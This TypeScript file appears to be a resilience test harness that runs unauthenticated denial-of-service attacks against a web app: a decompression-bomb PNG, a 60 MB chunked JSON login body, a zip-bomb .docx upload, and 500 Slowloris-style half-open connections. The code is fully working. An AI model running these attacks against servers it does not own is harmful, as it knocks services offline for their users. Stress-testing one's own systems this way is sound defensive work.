import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { zipSync } from 'fflate'
import sharp from 'sharp'

/** Somebody without a login who does one thing again and again until the time is over. Answers how often, by what came of it. */
export type Attack = (web: URL, until: number) => Promise<Record<string, number>>

const AT_ONCE = 20
const HALF_OPEN = 500
const MB = 1024 * 1024
const PIXELS = 8_900

export const ATTACKS = {
  'a picture of 79 million pixels': async (web, until) => {
    // 200 KB that take 300 MB to decode.
    const image = sharp({ create: { width: PIXELS, height: PIXELS, channels: 3, background: '#fff' } })
    const file = await image.png({ compressionLevel: 9 }).toBuffer()
    return many(web, until, form({ path: '/api/media', name: 'a.png', type: 'image/png', file }))
  },
  'JSON of 60 MB': (web, until) => many(web, until, bigJson),
  'a .docx that unpacks to 200 MB': async (web, until) => {
    const file = Buffer.from(
      zipSync({ '[Content_Types].xml': new Uint8Array(9), 'word/document.xml': new Uint8Array(200 * MB) }),
    )
    const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
    return many(web, until, form({ path: '/api/articles/import', name: 'a.docx', type, file }))
  },
  'half-open connections, 500': async (web, until) => {
    const counts: Record<string, number> = {}
    const one = async () => {
      while (Date.now() < until) count(counts, await halfOpen(web, until))
    }
    await Promise.all(Array.from({ length: HALF_OPEN }, one))
    return counts
  },
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof ATTACKS

type Sent = { head: string; write: (socket: Socket, isOver: () => boolean) => Promise<void> }

async function many(
  web: URL,
  until: number,
  sent: Sent | ((web: URL) => Sent),
): Promise<Record<string, number>> {
  const counts: Record<string, number> = {}
  const what = typeof sent === 'function' ? sent(web) : sent
  const one = async () => {
    while (Date.now() < until) count(counts, await once(web, what, until))
  }
  await Promise.all(Array.from({ length: AT_ONCE }, one))
  return counts
}

const count = (counts: Record<string, number>, what: string) => (counts[what] = (counts[what] ?? 0) + 1)

/** One request, on a connection of its own; its status, or how else it ended. */
async function once(web: URL, { head, write }: Sent, until: number): Promise<string> {
  const socket = connect(Number(web.port), web.hostname)
  let answer = ''
  let isOver = false
  const ended = new Promise<string>((done) => {
    const end = (what: string) => {
      isOver = true
      socket.destroy()
      done(what)
    }
    socket.on('data', (data) => {
      answer += data.toString('latin1')
      if (answer.includes('\r\n\r\n')) end(answer.slice(9, 12))
    })
    socket.on('error', ({ message }) => end(message.split(' ').at(-1) ?? message))
    socket.on('close', () => end('closed'))
    socket.setTimeout(Math.max(1_000, until - Date.now()), () => end('no answer'))
  })
  socket.write(`${head}\r\nHost: ${web.host}\r\n\r\n`)
  await write(socket, () => isOver)
  return ended
}

function form({ path, name, type, file }: { path: string; name: string; type: string; file: Buffer }): Sent {
  const start = `--edge\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`
  const body = Buffer.concat([Buffer.from(start), file, Buffer.from('\r\n--edge--\r\n')])
  return {
    head: `POST ${path} HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=edge\r\nContent-Length: ${body.length}`,
    write: async (socket) => void socket.write(body),
  }
}

/** Without a declared length, so that it is known only while it is read. */
function bigJson(): Sent {
  const piece = Buffer.from(`10000\r\n${'x'.repeat(0x10000)}\r\n`)
  return {
    head: 'POST /api/users/login HTTP/1.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked',
    write: async (socket, isOver) => {
      socket.write('a\r\n{"email":"\r\n')
      for (let sent = 0; sent < 60 * MB && !isOver(); sent += 0x10000)
        if (!socket.write(piece)) await drained(socket, isOver)
    },
  }
}

async function drained(socket: Socket, isOver: () => boolean): Promise<void> {
  while (!isOver() && socket.writableNeedDrain) await sleep(1)
}

/** Half a head, and then a byte a second, until it is hung up on. */
async function halfOpen(web: URL, until: number): Promise<string> {
  const socket = connect(Number(web.port), web.hostname)
  const ended = new Promise<string>((done) => {
    socket.on('close', () => done('closed'))
    socket.on('error', () => socket.destroy())
  })
  socket.write(`GET /admin/login HTTP/1.1\r\nHost: ${web.host}\r\nX-`)
  const dripping = setInterval(() => {
    if (Date.now() >= until) socket.destroy()
    else socket.write('a')
  }, 1_000)
  const how = await ended
  clearInterval(dripping)
  return how
}
